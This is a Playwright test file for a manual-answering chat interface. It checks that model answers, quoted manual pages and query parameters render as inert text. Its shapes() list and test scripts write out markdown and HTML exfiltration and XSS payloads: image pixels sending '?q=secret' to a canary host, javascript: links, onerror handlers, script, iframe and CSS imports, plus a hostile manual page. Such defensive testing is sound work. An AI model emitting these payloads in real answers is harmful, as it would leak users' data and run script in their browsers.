"""F101: nothing that a model or a manual says becomes a link, an image or a request."""

from urllib.request import urlopen

from playwright.sync_api import expect


def shapes(host: str) -> list[str]:
    """The ways in which an answer has been made to carry data away."""
    return [
        f"![pixel]({host}/image?q=secret)",
        f"[click]({host}/link?q=secret)",
        f"[reference][r]\n\n[r]: {host}/reference?q=secret",
        f"![reference image][i]\n\n[i]: {host}/reference-image",
        "[script](javascript:fetch('/x'))",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        f"<{host}/autolink?q=secret>",
        f"{host}/bare?q=secret",
        f'<img src="{host}/html-image" onerror="alert(1)">',
        f'<a href="{host}/html-link">here</a>',
        f"<script src='{host}/script.js'></script><script>alert(1)</script>",
        f"<iframe src='{host}/frame'></iframe><svg onload=alert(1)>",
        f'<style>@import "{host}/style.css";</style>',
        f"<link rel=stylesheet href={host}/sheet.css><meta http-equiv=refresh content=0;{host}>",
    ]


def test_f101_hostile_output_stays_text(serve, visit, canary):
    host, hits = canary
    told = shapes(host)
    script = [{"text": text + "\n\n"} for text in told]
    for keyword in ("WARNING", "PRO TIP", "SUGGESTION", "FOLLOW UP"):
        script += [
            {"text": f"[{keyword}: {host}/{keyword[:3]} <img src='{host}/x' onerror='alert(1)'>]\n"}
        ]
    # The manual is hostile too, and its own words are quoted.
    hostile_page = (
        f"Battery <img src='{host}/manual' onerror='alert(1)'> and more words follow here."
    )
    script.append({"text": '[MANUAL: p.1 "Battery"] battery done.'})
    server = serve(script, pages=(hostile_page, "Another page."))
    visited = visit(server.url)
    visited.choose()
    visited.ask("What about the battery?")
    answer = visited.answer()
    expect(answer.locator(".answer-text")).to_contain_text("battery done.")
    answer.get_by_role("button", name="Quotation 1: page 1, checked").click()
    expect(visited.page.locator("aside .note")).to_contain_text("<img src=")
    expect(answer.locator(".card")).to_have_count(4)
    answer.locator(".facts summary").click()
    elements = "a, img, iframe, script, style, link, object, embed, form, video, audio, [onerror]"
    expect(answer.locator(elements)).to_have_count(0)
    assert (
        answer.evaluate("node => node.querySelectorAll('[href], [src], [style*=url]').length") == 0
    )
    # A turn of the browser in which anything that was going to load would have been asked for.
    visited.page.evaluate(
        "() => new Promise((done) => requestIdleCallback(() => requestAnimationFrame(done)))"
    )
    assert hits == []
    with urlopen(f"{host}/control"):
        assert hits.pop() == "/control"  # the canary does sing


def test_f101_a_hostile_question_and_link_stay_text(serve, visit, canary):
    host, hits = canary
    server = serve([{"text": "Nothing to see."}])
    hostile = f"<img src='{host}/q' onerror='alert(1)'>"
    visited = visit(
        server.url,
        f"?product=%22%3E%3Cimg%20src%3D{host}%2Fp%3E&q=%3Cimg%20src%3D{host}%2Fq%3E",
    )
    visited.choose()
    visited.ask(hostile)
    answer = visited.answer()
    expect(answer.get_by_role("heading", level=2)).to_have_text(hostile)
    expect(answer.locator("img")).to_have_count(0)
    assert hits == []
